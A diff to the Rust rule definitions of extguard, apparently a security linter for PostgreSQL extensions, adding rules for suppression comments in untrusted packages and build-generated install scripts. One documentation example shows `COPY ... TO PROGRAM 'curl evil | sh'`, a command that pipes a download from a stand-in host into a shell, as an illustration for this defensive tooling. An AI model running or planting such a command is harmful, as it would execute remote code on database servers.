@@ -110,6 +110,53 @@ declare_rule! {
 
 declare_rule! {
     /// ## What it flags
+    /// An `-- extguard: ignore CODE` comment in input that is not yours:
+    /// packages read by `extguard scan`, and files checked with
+    /// `extguard check --untrusted` or `--no-inline-ignores`. Such comments
+    /// are not obeyed there; the findings they would hide are reported as
+    /// usual, and this finding names them.
+    ///
+    /// ## Why it matters
+    /// A hostile package could otherwise hide its own `COPY ... TO PROGRAM`
+    /// from the review with one comment.
+    ///
+    /// ## Example
+    /// ```sql
+    /// -- extguard: ignore EG101
+    /// COPY (SELECT 1) TO PROGRAM 'curl evil | sh';
+    /// ```
+    ///
+    /// ## Fix
+    /// Review what the comment tried to hide. In your own code, run
+    /// `extguard check` without `--untrusted` to have such comments obeyed.
+    pub static EG007 = { code: "EG007", name: "untrusted-suppression", title: "Suppression comment in untrusted input", severity: Warning };
+}
+
+declare_rule! {
+    /// ## What it flags
+    /// An extension in a source checkout (a Makefile, meson.build, ... next
+    /// to its control file) whose install script for `default_version` does
+    /// not exist yet: the build makes it. When it copies `sql/NAME.sql`
+    /// (pgvector's Makefile), that file is analysed as the install script;
+    /// when it concatenates pieces, each script present is analysed on its
+    /// own.
+    ///
+    /// ## Why it matters
+    /// In the second case extguard cannot follow the CREATE EXTENSION chain:
+    /// names CREATE EXTENSION would resolve safely may be reported.
+    ///
+    /// ## Example
+    /// `default_version = '5.0'`, `sql/functions/*.sql` and a Makefile rule
+    /// that builds `sql/ext--5.0.sql` from them.
+    ///
+    /// ## Fix
+    /// None needed; to analyse the real chain, run extguard on the built
+    /// tree (`make` first) or on the installed extension directory.
+    pub static EG008 = { code: "EG008", name: "install-script-made-by-build", title: "Install script made by the build", severity: Info };
+}
+
+declare_rule! {
+    /// ## What it flags
     /// Syntax that the PostgreSQL version analysed for (`--pg-version`, or
     /// `pg-version` in `extguard.toml`) does not have: the placeholder
     /// `@extschema:NAME@` of a required extension's schema, substituted in
@@ -129,10 +176,10 @@ declare_rule! {
     /// ## Fix
     /// Require PostgreSQL 16 for the extension, or look the schema up at
     /// install time.
-    pub static EG007 = { code: "EG007", name: "newer-postgres-syntax", title: "Syntax of a newer PostgreSQL version", severity: Error };
+    pub static EG009 = { code: "EG009", name: "newer-postgres-syntax", title: "Syntax of a newer PostgreSQL version", severity: Error };
 }
 
-/// EG007 for a whole file: every `@extschema:NAME@` placeholder when the
+/// EG009 for a whole file: every `@extschema:NAME@` placeholder when the
 /// version analysed for is older than 16.
 pub fn check_version_syntax(cx: &mut crate::analysis::Cx) {
     if cx.cfg.pg_version() >= 16 {
@@ -154,8 +201,8 @@ pub fn check_version_syntax(cx: &mut crate::analysis::Cx) {
     for span in spans {
         let name = file.text[span.start..span.end].to_string();
         cx.report(
-            &EG007,
-            EG007.severity,
+            &EG009,
+            EG009.severity,
             span,
             format!(
                 "{name} is substituted only by PostgreSQL 16 and later (analysed for {})",
